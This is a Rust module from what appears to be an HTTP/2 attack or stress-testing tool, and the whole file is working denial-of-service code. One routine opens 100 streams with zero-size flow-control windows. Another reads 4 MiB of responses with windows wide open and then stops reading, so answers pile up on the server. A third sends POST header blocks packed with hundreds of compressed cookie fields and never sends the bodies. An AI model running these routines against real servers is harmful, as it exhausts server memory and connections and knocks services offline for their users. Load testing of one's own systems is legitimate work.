//! Attacks on what a server holds for one connection: answers that nobody takes, requests that do not end.

use std::io;
use std::time::{Duration, Instant};

use crate::attack::{Outcome, now};
use crate::client::{Client, Target};
use crate::frame::{self, END_HEADERS, HEADERS};

/// Streams of one connection that are open at once: as many as servers allow.
const STREAMS: u32 = 100;
/// What is taken of answers before no more is, so that the server has got used to large pieces.
const TAKEN_BYTES: u64 = 4 * 1024 * 1024;
/// The widest that a window may be (RFC 9113 section 6.9.1).
const WIDEST: u32 = 0x7fff_ffff;
/// Windows that nobody has widened (RFC 9113 section 6.9.2).
const WINDOW: u32 = 65_535;
/// How long requests without an end are left open before more are sent.
const HELD: Duration = Duration::from_secs(3);

/// No stream has a window.
pub(crate) fn zero_window(target: &Target, until: Instant) -> io::Result<Outcome> {
    let mut client = Client::http2(target, &frame::setting(frame::INITIAL_WINDOW_SIZE, 0))?;
    for number in 0..STREAMS {
        client.send(&frame::get(frame::stream(number), &target.host));
    }
    let all_reset = |client: &Client| client.seen.ended || client.seen.resets >= u64::from(STREAMS);
    while !all_reset(&client) && now() < until {
        client.look();
        client.read_frames();
    }
    Ok(Outcome { requests: STREAMS.into(), ended: all_reset(&client) })
}

/// All windows are wide open, much is taken at first, and then nothing any more from the socket.
pub(crate) fn unread_answers(target: &Target, until: Instant) -> io::Result<Outcome> {
    let time = until.saturating_duration_since(now());
    let opening = frame::setting(frame::INITIAL_WINDOW_SIZE, WIDEST);
    let mut client = Client::http2(target, &opening)?;
    client.send(&frame::window_update(0, WIDEST - WINDOW));
    for number in 0..STREAMS {
        client.send(&frame::get(frame::stream(number), &target.host));
    }
    while client.seen.bytes < TAKEN_BYTES && !client.seen.ended && now() < until {
        client.look();
        client.forget();
    }
    // As long as was given in all, however long it took until here.
    client.sleep(time);
    // Only now it shows: what the kernels hold, and then the end instead of the rest.
    let patience = now() + Duration::from_secs(60);
    while !client.seen.ended && now() < patience {
        client.look();
        client.forget();
    }
    Ok(Outcome { requests: STREAMS.into(), ended: client.seen.ended })
}

/// Requests whose heads are as large as they may be, cost a few bytes each to send (RFC 7541), and whose bodies never come.
pub(crate) fn open_heads(target: &Target, until: Instant) -> io::Result<Outcome> {
    /// 41 bytes each as lists are measured (RFC 9113 section 6.5.2), below 32 KiB together.
    const CRUMBS: usize = 700;
    let mut client = Client::http2(target, &frame::frame(frame::SETTINGS, 0, 0, &[]))?;
    let mut requests = 0;
    let mut request = |client: &mut Client| {
        let crumbs = [frame::indexed_literal("cookie", b"a=b"), vec![0x80 | 62; CRUMBS - 1]].concat();
        let block = [frame::post_block(&target.host), crumbs].concat();
        client.send(&frame::frame(HEADERS, END_HEADERS, frame::stream(requests), &block));
        requests += 1;
    };
    (0..STREAMS).for_each(|_| request(&mut client));
    let held = now() + HELD;
    while !client.seen.ended && now() < held.min(until) {
        client.look();
        client.read_frames();
    }
    while !client.seen.ended && now() < until {
        request(&mut client);
        client.look();
        client.read_frames();
    }
    Ok(Outcome { requests: requests.into(), ended: client.seen.ended })
}
